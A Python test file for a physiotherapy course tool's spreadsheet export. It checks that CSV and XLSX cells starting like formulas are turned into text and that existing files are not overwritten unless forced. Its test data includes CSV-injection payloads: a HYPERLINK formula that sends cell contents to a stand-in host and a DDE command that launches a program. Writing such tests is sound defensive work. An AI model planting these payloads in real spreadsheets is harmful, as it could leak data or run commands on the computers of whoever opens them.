"""Does the exported table open in a spreadsheet as text, never as a formula, and is an
existing file left alone unless replacing it was asked for?"""

from __future__ import annotations

import csv
import io
import json
import uuid
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from physioreflect.cohort import (
    FORMULA_STARTS,
    csv_bytes,
    neutralise,
    presentable,
    read_cohort,
    write_csv,
    write_xlsx,
    xlsx_bytes,
)
from physioreflect.content import library, message
from physioreflect.errors import OutputExists
from physioreflect.fixtures import sample_paths

REQUIRED = library().required_prompt_ids()
DANGEROUS = (
    '=HYPERLINK("http://evil.example/?"&A1,"klikk")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
)


def _hostile_folder(folder: Path) -> Path:
    """Workbooks whose title, author and course code start like formulas, and a file whose
    name does."""
    folder.mkdir()
    base = json.loads(sample_paths()[0].read_bytes())
    for index, text in enumerate(DANGEROUS):
        data = json.loads(json.dumps(base))
        data["meta"].update(
            id=str(uuid.UUID(int=index + 1)), title=text, author=text, course_code=text[:40]
        )
        (folder / f"{index}.json").write_text(json.dumps(data), encoding="utf-8")
    (folder / "=2+2.json").write_bytes(b"{")
    return folder


def _table(folder: Path, **options: Any) -> Any:
    return read_cohort(folder, required_prompts=REQUIRED, **options).table


@given(st.text())
def test_neutralise_makes_every_formula_start_text(text: str) -> None:
    safe = neutralise(text)
    assert not safe.startswith(FORMULA_STARTS)
    assert safe.removeprefix("'") == text or safe == text
    assert neutralise("Kasus – kne") == "Kasus – kne"
    assert neutralise("") == ""


def test_csv_cells_are_neutralised(tmp_path: Path) -> None:
    table = _table(_hostile_folder(tmp_path / "in"))
    data = csv_bytes(table, "en")
    assert data.startswith(b"\xef\xbb\xbf"), "a byte-order mark, so Excel reads UTF-8"
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    header, body = rows[0], rows[1:]
    assert "Title" in header and "Complete (%)" in header
    title, student, course, file = (header.index(h) for h in ("Title", "Student", "Course", "File"))
    for row in body:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell
    titles = {row[title] for row in body if row[title]}
    assert titles == {"'" + text for text in DANGEROUS}
    assert {row[student] for row in body if row[student]} == titles
    assert any(row[course] == "'" + DANGEROUS[0][:40] for row in body)
    assert "'=2+2.json" in {row[file] for row in body}


def test_xlsx_cells_are_text_never_formulas(tmp_path: Path) -> None:
    table = _table(_hostile_folder(tmp_path / "in"))
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(table, "nb")))
    sheet = book.active
    assert sheet is not None
    values = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in values)
    texts = [cell.value for cell in values if isinstance(cell.value, str)]
    assert not [text for text in texts if text.startswith(FORMULA_STARTS)]
    assert "'" + DANGEROUS[0] in texts
    header = [cell.value for cell in sheet[1]]
    assert "Tittel" in header and "Fullført (%)" in header
    row = [cell.value for cell in sheet[2]]
    percent = row[header.index("Fullført (%)")]
    assert isinstance(percent, int) and 0 <= percent <= 100


def test_xlsx_holds_control_characters_a_title_may_carry(tmp_path: Path) -> None:
    """Does a title with a control character (valid JSON, invalid XML) still export?"""
    folder = tmp_path / "in"
    folder.mkdir()
    data = json.loads(sample_paths()[0].read_bytes())
    data["meta"]["title"] = "Kasus\x01\x1b[31m rød"
    (folder / "a.json").write_text(json.dumps(data), encoding="utf-8")
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(_table(folder), "en")))
    sheet = book.active
    assert sheet is not None
    header = [cell.value for cell in sheet[1]]
    assert sheet.cell(2, header.index("Title") + 1).value == "Kasus\ufffd\ufffd[31m rød"


def test_dates_and_numbers_keep_their_types_in_excel(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    for path in sample_paths():
        (folder / path.name).write_bytes(path.read_bytes())
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(_table(folder), "en")))
    sheet = book.active
    assert sheet is not None
    header = [cell.value for cell in sheet[1]]
    updated = [row[header.index("Last changed (UTC)")] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.is_date for cell in updated)
    barriers = [row[header.index("Barriers")].value for row in sheet.iter_rows(min_row=2)]
    assert all(isinstance(value, int) for value in barriers)


@pytest.mark.parametrize("write", [write_csv, write_xlsx])
def test_an_existing_file_is_replaced_only_when_forced(tmp_path: Path, write: Any) -> None:
    table = _table(_hostile_folder(tmp_path / "in"))
    target = tmp_path / "out.file"
    target.write_bytes(b"the course leader's own notes")
    with pytest.raises(OutputExists):
        write(table, target, lang="en")
    assert target.read_bytes() == b"the course leader's own notes"
    write(table, target, lang="en", force=True)
    assert target.read_bytes() != b"the course leader's own notes"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in", "out.file"], "no temp file left"


def test_the_learning_judgement_is_shown_in_words(tmp_path: Path) -> None:
    folder = tmp_path / "class"
    folder.mkdir()
    for path in sample_paths():
        (folder / path.name).write_bytes(path.read_bytes())
    table = _table(folder)
    for lang in ("nb", "en"):
        shown = presentable(table, lang)
        header = message("cohort.column.learning", lang)
        words = {kind.label.get(lang) for kind in library().rubric.learning}
        judged = [value for value in shown[header] if value]
        assert judged and set(judged) <= words
